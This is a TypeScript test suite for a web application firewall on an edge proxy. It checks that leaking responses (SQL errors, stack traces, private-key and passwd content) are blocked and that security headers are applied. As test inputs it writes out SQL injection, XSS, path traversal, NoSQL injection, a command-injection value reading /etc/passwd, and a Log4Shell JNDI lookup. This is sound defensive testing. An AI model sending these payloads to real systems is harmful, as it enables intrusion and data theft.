// Answers that show what they should not, on a real edge: kept back whole, or only noted; what is clean, long, packed or a
// stream of events arrives as it is. And the security fields of answers.

import assert from 'node:assert/strict'
import { after, test } from 'node:test'
import { gzipSync } from 'node:zlib'
import type { CheckedWaf } from '../../src/file/checked-guard.ts'
import { answering, ok } from '../tools/raw-origin.ts'
import { type GuardedEdge, policyOf, specOf, startGuardedEdge } from './harness.ts'

const waf: CheckedWaf = {
  rules: 'builtin',
  mode: 'block',
  paranoia: 1,
  inboundThreshold: 5,
  outboundThreshold: 4,
  exclude: [],
  bodyBytesMax: 64 << 10,
  unreadTypes: [],
  responses: true,
  responseBytesMax: 32 << 10,
}
const secret = 'the rest of the page'
const leaks: Record<string, string> = {
  '/sql': `<p>You have an error in your SQL syntax; check the manual</p>${secret}`,
  '/trace': `Traceback (most recent call last):\n  File "app.py", line 1 ${secret}`,
  '/java': `at com.example.Shop.buy(Shop.java:42)\n${secret}`,
  '/node': `Error: x\n    at buy (/srv/shop/node_modules/shop/buy.js:12:7)\n${secret}`,
  '/key': `-----BEGIN RSA PRIVATE KEY-----\n${secret}`,
  '/passwd': `root:x:0:0:root:/root:/bin/bash\n${secret}`,
  '/late': `${'x '.repeat(10_000)}ORA-00933: SQL command not properly ended ${secret}`,
}
const chunked = (body: string): string =>
  `HTTP/1.1 500 Oops\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\n${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`

function partOf(path: string, range: string | undefined): string {
  const all = leaks['/passwd'] as string
  const type = path === '/film' ? 'Content-Type: video/mp4\r\n' : 'Content-Type: text/html\r\n'
  const asked = /^bytes=(\d+)-(\d+)$/.exec(range ?? '')
  if (asked === null) return ok(all, type)
  const part = all.slice(Number(asked[1]), Number(asked[2]) + 1)
  return `HTTP/1.1 206 Partial Content\r\n${type}Content-Range: bytes ${asked[1]}-${asked[2]}/${all.length}\r\nContent-Length: ${part.length}\r\n\r\n${part}`
}

async function start(
  t: Parameters<typeof startGuardedEdge>[0],
  change: Partial<CheckedWaf> = {},
): Promise<GuardedEdge> {
  const guard = specOf([policyOf('trial', { waf: { ...waf, ...change } })])
  return startGuardedEdge(
    t,
    guard,
    {},
    answering(request => {
      const path = request.startLine.split(' ')[1] as string
      const leak = leaks[path.split('?', 1)[0] as string]
      if (leak !== undefined && path.endsWith('?chunked')) return chunked(leak)
      if (leak !== undefined && path.endsWith('?gzip')) {
        const packed = gzipSync(leak)
        const head = `HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\nContent-Length: ${packed.length}\r\n\r\n`
        return Buffer.concat([Buffer.from(head), packed])
      }
      if (leak !== undefined) return ok(leak, 'Content-Type: text/html; charset=utf-8\r\n')
      if (path === '/pieces' || path === '/film') return partOf(path, request.fields.get('range'))
      if (path === '/untyped') return ok(leaks['/node'])
      if (path === '/packed') {
        const packed = gzipSync(leaks['/node'] + 'x'.repeat(200_000))
        return Buffer.concat([
          Buffer.from(
            `HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\nContent-Length: ${packed.length}\r\n\r\n`,
          ),
          packed,
        ])
      }
      if (path === '/asked')
        return ok(request.fields.get('accept-encoding') ?? '', 'Content-Type: text/plain\r\n')
      if (path === '/binary') return ok(leaks['/key'], 'Content-Type: application/octet-stream\r\n')
      if (path === '/long') return ok('y'.repeat(300_000), 'Content-Type: text/html\r\n')
      if (path === '/events')
        return 'HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n9\r\ndata: 1\n\n\r\n0\r\n\r\n'
      return ok('<p>a page like any other</p>', 'Content-Type: text/html\r\n')
    }),
  )
}

/** One for all tests that refuse: rules take their time to be compiled. */
const shared = await start({ after })

test('an answer with a leak is kept back whole, whatever its framing and encoding, and the rule is told', async () => {
  const { ask, explained } = shared
  for (const path of Object.keys(leaks))
    for (const form of ['', '?chunked', '?gzip']) {
      const answer = await ask({ path: path + form, fields: 'Accept: application/json\r\n' })
      assert.equal(answer.status, 502, path + form)
      assert.doesNotMatch(answer.body.toString('latin1'), /the rest of the page/, path + form)
      const { error } = JSON.parse(answer.body.toString()) as { error: { code: string; requestId: string } }
      assert.equal(error.code, 'GUARD_ANSWER_LEAK')
      const record = await explained(error.requestId)
      assert.equal(record.outcome, 'refused')
      assert.match(record.findings.map(finding => finding.rule).join(), /90005\d0/)
    }
})

test('a leak is not read in ranges, nor in a long packed answer, nor where the type is missing; a film has its ranges', async () => {
  const { ask, origin } = shared
  const before = origin.requests.length
  const range = 'Range: bytes=2-9\r\nIf-Range: "a"\r\n'
  assert.equal((await ask({ path: '/pieces', fields: range })).status, 502)
  const asked = origin.requests.slice(before).map(({ fields }) => fields.get('range'))
  assert.deepEqual(asked, ['bytes=2-9', undefined], 'the part that came was dropped for the whole')
  const form = 'Content-Type: application/x-www-form-urlencoded\r\n'
  const posted = await ask({ method: 'POST', path: '/pieces', fields: range + form, body: 'a=b' })
  assert.equal(posted.status, 502)
  assert.equal((await ask({ path: '/packed' })).status, 502)
  assert.equal((await ask({ path: '/untyped' })).status, 502)
  const film = await ask({ path: '/film', fields: range })
  assert.deepEqual([film.status, film.body.toString()], [206, 'ot:x:0:0'])
})

test('where rules only detect, a leak is noted and the answer arrives as it is', async t => {
  const { ask } = await start(t, { mode: 'detect' })
  for (const form of ['', '?chunked']) {
    const answer = await ask({ path: `/sql${form}` })
    assert.equal(answer.status, form === '' ? 200 : 500)
    assert.equal(answer.body.toString(), leaks['/sql'])
  }
})

test('pages, long texts, events and what is no text arrive byte for byte', async () => {
  const { ask } = shared
  assert.equal((await ask({ path: '/' })).body.toString(), '<p>a page like any other</p>')
  assert.equal((await ask({ path: '/long' })).body.toString(), 'y'.repeat(300_000))
  assert.equal((await ask({ path: '/events' })).body.toString(), 'data: 1\n\n')
  assert.equal((await ask({ path: '/binary' })).body.toString(), leaks['/key'])
  const head = await ask({ path: '/sql', method: 'HEAD' })
  assert.deepEqual([head.status, head.body.length], [200, 0])
  const asked = await ask({ path: '/asked', fields: 'Accept-Encoding: br, gzip\r\n' })
  assert.equal(asked.body.toString(), 'identity')
})

test('attacks in the query, the path, forms and JSON get 403 by the built-in rules, and the rest passes', async () => {
  const { ask, origin } = shared
  const before = origin.requests.length
  const form = 'Content-Type: application/x-www-form-urlencoded\r\n'
  const json = 'Content-Type: application/json\r\n'
  const refused = [
    { path: '/search?q=1%27%20OR%20%271%27=%271' },
    { path: '/search?q=%3Cscript%3Ealert(1)%3C/script%3E' },
    { path: '/search?file=..%252f..%252f..%252fetc%252fpasswd' },
    { path: '/a/%3Cimg%20src=x%20onerror=alert(1)%3E' },
    { method: 'POST', path: '/login', fields: form, body: 'user=admin%27--&pass=x' },
    { method: 'POST', path: '/login', fields: form, body: 'user[$ne]=x' },
    { method: 'POST', path: '/api', fields: json, body: '{"a":{"b":"1;\\u0063at /etc/passwd"}}' },
    { path: '/', fields: 'X-Api: $\u007bjndi:ldap://x/a}\r\n' },
    { path: '/', fields: 'User-Agent: sqlmap/1.7\r\n' },
    {
      method: 'POST',
      path: '/api',
      fields: 'Content-Type: text/xml\r\n',
      body: '<a b="javascript:alert(1)"/>',
    },
  ]
  for (const request of refused) {
    const answer = await ask(request)
    assert.equal(answer.status, 403, JSON.stringify(request))
  }
  assert.equal(origin.requests.length, before)
  const passed = [
    { path: "/search?q=O'Reilly%20%26%20friends%20-%20rock%20'n'%20roll" },
    {
      method: 'POST',
      path: '/api',
      fields: json,
      body: '{"text":"Select a film; drop me a line -- or not. 50% off!"}',
    },
    { method: 'POST', path: '/api', fields: form, body: 'name=J%C3%BCrgen&note=if+(a+%3C+b)+return' },
  ]
  for (const request of passed) assert.equal((await ask(request)).status, 200, JSON.stringify(request))
})

test('answers have the security fields of the policy, with a nonce that the instance was told', async t => {
  const headers = {
    contentSecurityPolicy: "script-src 'nonce-{nonce}'",
    contentSecurityPolicyReportOnly: '',
    referrerPolicy: 'same-origin',
    permissionsPolicy: '',
    crossOriginOpenerPolicy: 'same-origin',
    crossOriginResourcePolicy: '',
    frameOptions: 'DENY',
    usesNonce: true,
  }
  const { ask, origin } = await startGuardedEdge(
    t,
    specOf([policyOf('trial', { headers })]),
    {},
    answering(request =>
      ok(
        request.fields.get('tenfold-nonce') ?? '',
        request.startLine.includes('/own') ? 'X-Frame-Options: SAMEORIGIN\r\n' : '',
      ),
    ),
  )
  const first = await ask({ fields: 'Tenfold-Nonce: forged\r\n' })
  assert.equal(first.fields.get('content-security-policy'), `script-src 'nonce-${first.body}'`)
  assert.deepEqual(
    [first.fields.get('x-frame-options'), first.fields.get('x-content-type-options')],
    ['DENY', 'nosniff'],
  )
  assert.notEqual((await ask()).body.toString(), first.body.toString())
  assert.equal((await ask({ path: '/own' })).fields.get('x-frame-options'), 'SAMEORIGIN')
  assert.equal(origin.requests.length, 3)
})
